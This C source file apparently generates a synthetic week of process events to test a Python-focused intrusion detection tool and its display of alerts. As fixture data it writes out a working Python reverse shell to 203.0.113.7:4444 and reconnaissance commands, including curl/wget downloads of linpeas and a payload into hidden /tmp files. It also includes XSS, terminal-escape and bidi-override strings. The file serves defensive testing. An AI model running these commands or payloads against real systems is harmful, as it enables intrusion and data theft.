// SPDX-License-Identifier: GPL-2.0-only
/*
 * Days with jobs that rules look at twice; on one of them somebody gets in and
 * is only watched, on another one he is stopped; and command lines that would
 * like to be more than text.
 */
#include <string.h>

#include "../../ctl/clock.h"
#include "../../module/core/env.h"
#include "../../module/uapi/policy.h"
#include "../../module/uapi/pydetect.h"
#include "make_event.h"
#include "make_week.h"

#define HOUR (3600 * NS_PER_SECOND)
#define DAY (24 * HOUR)
#define WEEK (7 * DAY)
#define UPTIME (30 * DAY)

#define BURST_ID "1f8a872d-cf6f-4b26-8988-e7658d0e2788"
#define COMMANDS_ID "93b667d3-bb1b-4195-acb8-c2ec708070fc"

/* Pieces of a command line with its length, NUL included. */
#define ARGS(text) .args = (text), .args_length = sizeof(text) - 1

/**
 * struct writer - where in the week we are
 * @week: what is to be made
 * @number: of the newest event
 * @random: what chance is made from
 */
struct writer {
	const struct make_week *week;
	uint64_t number;
	uint32_t random;
};

static const struct make_event quiet[] = {
	{
		.rule = "0c3b6f5e-8d5f-4c3a-9d4e-6c8a2f1b7e90",
		.title = "Python Runs Code From Its Command Line",
		.level = PYDETECT_LEVEL_LOW,
		.uid = 33,
		.image = "/usr/bin/python3.11",
		ARGS("python3\0-c\0import json,sys; "
		     "print(json.load(sys.stdin)['v'])"),
		.parent_pid = 871,
		.parent_image = "/usr/bin/dash",
	},
	{
		.rule = "0c3b6f5e-8d5f-4c3a-9d4e-6c8a2f1b7e90",
		.title = "Python Runs Code From Its Command Line",
		.level = PYDETECT_LEVEL_LOW,
		.uid = 0,
		.image = "/usr/bin/python3.11",
		ARGS("python3\0-c\0import sysconfig; "
		     "print(sysconfig.get_paths())"),
		.parent_pid = 612,
		.parent_image = "/usr/lib/systemd/systemd",
	},
	{
		.rule = "7a1c2e44-95b0-4f7e-b1f2-0d5c3a9e6611",
		.title = "Shell Started By A Python Service",
		.level = PYDETECT_LEVEL_MEDIUM,
		.uid = 33,
		.image = "/usr/bin/dash",
		ARGS("/bin/sh\0-c\0convert upload.png -resize 640x out.jpg"),
		.parent_pid = 1430,
		.parent_image = "/opt/shop/venv/bin/python3.11",
	},
	{
		.rule = "5d9e0b1c-2f64-4a38-8c7b-e41f0a6d3b25",
		.title = "Python Downloads And Runs Code",
		.level = PYDETECT_LEVEL_HIGH,
		.block = true,
		.uid = 34,
		.image = "/usr/bin/python3.11",
		ARGS("python3\0-c\0import urllib.request as u; "
		     "exec(u.urlopen('http://deploy.internal/"
		     "agent.py').read())"),
		.parent_pid = 700,
		.parent_image = "/usr/sbin/cron",
	},
};

static const struct make_event shell = {
	.rule = "2f4a4f0e-9a56-4d0c-a1a5-4b8ce0d4b1a9",
	.title = "Python Reverse Shell",
	.label = "ReverseShell",
	.level = PYDETECT_LEVEL_CRITICAL,
	.block = true,
	.uid = 33,
	.image = "/usr/bin/python3.11",
	ARGS("python3\0-c\0import "
	     "socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444))"
	     ";[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")"),
	.parent_pid = 1430,
	.parent_image = "/opt/shop/venv/bin/python3.11",
};

static const struct make_event burst = {
	.rule = BURST_ID,
	.title = "Burst Of Shell Commands From One Python",
	.level = PYDETECT_LEVEL_HIGH,
	.block = true,
	.uid = 33,
	.image = "/usr/bin/dash",
	.parent_pid = 1430,
	.parent_image = "/opt/shop/venv/bin/python3.11",
};

/* Seconds between them are in pauses[]. */
static const char *const commands[] = {
	"/bin/sh -c whoami",
	"/bin/sh -c uname -a",
	"/bin/sh -c grep -v nologin /etc/passwd",
	"/bin/sh -c find / -perm -4000 -type f",
	"/bin/sh -c env | sort",
	"/bin/sh -c curl -s http://203.0.113.7/linpeas.sh -o /tmp/.l",
	"/bin/sh -c wget -q http://203.0.113.7/k -O /tmp/.k",
	"/bin/sh -c echo '</code><img src=x onerror=alert(1)>'",
};

static const unsigned int pauses[] = { 0, 3, 4, 6, 2, 9, 5, 4 };

#define HOSTILE(text)                                                   \
	{                                                               \
		.rule = "0c3b6f5e-8d5f-4c3a-9d4e-6c8a2f1b7e90",         \
		.title = "Python Runs Code From Its Command Line",      \
		.level = PYDETECT_LEVEL_LOW, .uid = 4000000001,         \
		.image = "/usr/bin/python3.11", .parent_pid = 4242,     \
		.parent_image = "/tmp/<script>document.title='pwned'</" \
				"script>",                              \
		ARGS("python3\0-c\0" text),                             \
	}

static const struct make_event hostile[] = {
	HOSTILE("</script><script id=injected>document.title='pwned'</script>"),
	HOSTILE("\"><img id=injected src=http://203.0.113.7/x "
		"onerror=alert(1)>"),
	HOSTILE("--></style></title></code></details><form id=injected>"),
	HOSTILE("&lt;b id=injected&gt; &#60;b&#62; &amp;"),
	HOSTILE("\x1b]0;pwned\a\x1b[2J\r\n\x7f\xc2\x9b"
		"1m"),
	HOSTILE("not utf-8: \xff\xfe \xc3( \xed\xa0\x80 \xf0\x9f"),
	HOSTILE("bidi: \xe2\x80\xae"
		"hs.yalp\xe2\x80\xac \xe2\x81\xa6 x \xe2\x80\x8b y"),
	HOSTILE("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d / \xf0\x9f\x90\x8d / "
		"\xe6\x97\xa5\xe6\x9c\xac"),
};

static uint32_t chance(struct writer *writer, uint32_t below)
{
	writer->random = writer->random * 1103515245u + 12345;
	return (writer->random >> 8) % below;
}

static uint64_t boot_time(const struct writer *writer, uint64_t time)
{
	return UPTIME - (writer->week->until - time);
}

static int send(const struct writer *writer, struct message *message)
{
	struct event event;
	int error = event_decode(&event, message_bytes(message));

	if (!error)
		error = writer->week->event(&event, writer->week->context);
	event_free(&event);
	message_free(message);
	return error;
}

/* What make_event() leaves out, or puts in otherwise, comes behind it. */
static void begin(struct writer *writer, const struct make_event *event,
		  uint64_t time, bool denied, struct message *message)
{
	struct make_event copy = *event;

	copy.number = ++writer->number;
	copy.time = time;
	copy.denied = denied;
	make_event(message, &copy);
	message_u64(message, PYDETECT_EVENT_BOOT_TIME, boot_time(writer, time));
	if (denied)
		message_u32(message, PYDETECT_EVENT_MODE, PYDETECT_MODE_BLOCK);
}

static void put_hit(struct message *message, const struct make_event *event,
		    const char *text)
{
	const char *place =
		memmem(event->args, event->args_length, text, strlen(text));
	struct message hit = { 0 };

	message_u32(&hit, PYDETECT_HIT_FIELD, PYDETECT_FIELD_COMMAND_LINE);
	message_string(&hit, PYDETECT_HIT_TEXT, text);
	message_u64(&hit, PYDETECT_HIT_OFFSET, place - event->args);
	message_u32(&hit, PYDETECT_HIT_LENGTH, strlen(text));
	message_nest(message, PYDETECT_EVENT_HIT, &hit);
}

static void put_group(struct message *window)
{
	struct message group = { 0 };

	message_u32(&group, PYDETECT_GROUP_FIELD,
		    PYDETECT_FIELD_PARENT_PROCESS_GUID);
	message_u32(&group, PYDETECT_GROUP_PID, burst.parent_pid);
	message_u64(&group, PYDETECT_GROUP_START, 5 * NS_PER_SECOND);
	message_nest(window, PYDETECT_WINDOW_GROUP, &group);
}

static uint64_t moment(uint64_t start, size_t index)
{
	size_t i;

	for (i = 0; i <= index; i++)
		start += pauses[i] * NS_PER_SECOND;
	return start;
}

static void put_state(struct message *window, uint64_t start, size_t index,
		      uint32_t count)
{
	message_u32(window, PYDETECT_WINDOW_COUNT, count);
	message_u32(window, PYDETECT_WINDOW_NEEDED, count);
	message_u64(window, PYDETECT_WINDOW_FIRST, start);
	message_u64(window, PYDETECT_WINDOW_LAST, moment(start, index));
	message_u64(window, PYDETECT_WINDOW_TIMESPAN, 60 * NS_PER_SECOND);
	put_group(window);
}

/* The window of the whole, and the one of its part that counts commands. */
static void put_windows(struct message *message, uint64_t start, size_t index,
			bool alert)
{
	struct message whole = { 0 }, part = { 0 };
	size_t i;

	message_string(&part, PYDETECT_WINDOW_ID, COMMANDS_ID);
	message_string(&part, PYDETECT_WINDOW_TITLE,
		       "Many Shell Commands From One Python");
	put_state(&part, start, index, 5);
	message_u32(&part, PYDETECT_WINDOW_TYPE,
		    PYDETECT_CORRELATION_VALUE_COUNT);
	message_u32(&part, PYDETECT_WINDOW_FIELD, PYDETECT_FIELD_COMMAND_LINE);
	for (i = 0; i <= index; i++) {
		message_path(&part, PYDETECT_WINDOW_VALUE, commands[i]);
		message_u64(&part, PYDETECT_WINDOW_VALUE_TIME,
			    moment(start, i));
	}
	message_nest(message, PYDETECT_EVENT_WINDOW, &part);

	message_string(&whole, PYDETECT_WINDOW_ID, BURST_ID);
	message_string(&whole, PYDETECT_WINDOW_TITLE, burst.title);
	put_state(&whole, start, index, 2);
	message_u32(&whole, PYDETECT_WINDOW_TYPE,
		    PYDETECT_CORRELATION_TEMPORAL);
	if (alert)
		message_flag(&whole, PYDETECT_WINDOW_ALERT);
	message_nest(message, PYDETECT_EVENT_WINDOW, &whole);
}

/* The fifth command is the first alert; the others follow if they are denied. */
static int put_burst(struct writer *writer, uint64_t time, bool denied)
{
	const uint64_t start = boot_time(writer, time);
	struct make_event event = burst;
	int error = 0;
	size_t i;

	for (i = 4; !error && i < (denied ? ARRAY_SIZE(commands) : 5); i++) {
		struct message message = { 0 };

		event.args = commands[i];
		event.args_length = strlen(commands[i]);
		begin(writer, &event, moment(time, i), denied, &message);
		put_windows(&message, start, i, i == 4);
		error = send(writer, &message);
	}
	return error;
}

static int put_one(struct writer *writer, const struct make_event *event,
		   uint64_t time, bool denied, const char *hit)
{
	struct message message = { 0 };

	begin(writer, event, time, denied, &message);
	if (hit)
		put_hit(&message, event, hit);
	return send(writer, &message);
}

/* Somebody gets in: a shell, and a look around. */
static int put_incident(struct writer *writer, uint64_t time, bool denied)
{
	int error = put_one(writer, &shell, time, denied, "pty.spawn");

	if (!error)
		error = put_one(writer, &shell, time + 11 * NS_PER_SECOND,
				denied, "socket.socket");
	return error ? error : put_burst(writer, time + HOUR / 60, denied);
}

static int put_hostile(struct writer *writer, uint64_t time)
{
	int error = 0;
	size_t i;

	for (i = 0; !error && i < ARRAY_SIZE(hostile); i++)
		error = put_one(writer, &hostile[i], time + i * NS_PER_SECOND,
				false, NULL);
	return error;
}

/* A program with an argument of 128 KiB, of which there is head and tail. */
static int put_long(struct writer *writer, uint64_t time)
{
	struct message message = { 0 }, process = { 0 }, piece = { 0 };
	struct make_event event = quiet[0];
	static char head[1024];

	memset(head, 'A', sizeof(head));
	event.args = NULL;
	begin(writer, &event, time, false, &message);
	message_u64(&process, PYDETECT_PROCESS_ARGS_LENGTH, 131072);
	message_u64(&piece, PYDETECT_PIECE_OFFSET, 0);
	message_put(&piece, PYDETECT_PIECE_DATA, head, sizeof(head));
	message_nest(&process, PYDETECT_PROCESS_ARGS_PIECE, &piece);
	message_nest(&message, PYDETECT_EVENT_PROCESS, &process);
	return send(writer, &message);
}

static int put_error(struct writer *writer, uint64_t time)
{
	struct make_event event = quiet[0];

	event.rule = NULL;
	event.error = 12;
	return put_one(writer, &event, time, false, NULL);
}

static int put_quiet(struct writer *writer, uint64_t time)
{
	static const uint8_t shares[] = { 17, 12, 10, 1 };
	uint32_t left = chance(writer, 40), i = 0;

	while (left >= shares[i])
		left -= shares[i++];
	return put_one(writer, &quiet[i], time, false, NULL);
}

/* By day more happens than at night, and never the same. */
static uint64_t weight(uint64_t time)
{
	const uint64_t hour = time / HOUR % 24;

	return (hour < 7 || hour > 18 ? 2 : 6) + time / HOUR * 7919 % 5;
}

/* @count events, spread over the hours by their weights. */
static int put_between(struct writer *writer, uint64_t from, uint64_t until,
		       uint64_t count)
{
	uint64_t time, i, total = 0, passed = 0, done = 0;
	int error = 0;

	for (time = from; time < until; time += HOUR)
		total += weight(time);
	for (time = from; time < until; time += HOUR) {
		const uint64_t wanted =
			count * (passed += weight(time)) / total - done;

		for (i = 0; !error && i < wanted; i++)
			error = put_quiet(writer, time + HOUR / wanted * i);
		done += wanted;
	}
	return error;
}

/**
 * make_week - let a week happen
 * @week: what of it is wanted
 *
 * Return: 0, or what @week->event returned.
 */
int make_week(const struct make_week *week)
{
	struct writer writer = { .week = week, .random = 7 };
	const uint64_t start = week->until - WEEK + HOUR / 60;
	const uint64_t watched = start + 2 * DAY + 5 * HOUR;
	const uint64_t stopped = start + 5 * DAY + 9 * HOUR;
	const uint64_t end = week->until - HOUR;
	int error;

	error = put_between(&writer, start, watched, week->quiet / 3);
	if (!error)
		error = put_incident(&writer, watched, false);
	if (!error)
		error = put_error(&writer, watched + HOUR / 4);
	if (!error)
		error = put_between(&writer, watched + HOUR, stopped,
				    week->quiet / 3);
	if (!error)
		error = put_incident(&writer, stopped, true);
	if (!error)
		error = put_between(&writer, stopped + HOUR, end,
				    week->quiet / 3);
	if (!error)
		error = put_hostile(&writer, end);
	if (!error)
		error = put_long(&writer, end + HOUR / 60);
	return error;
}
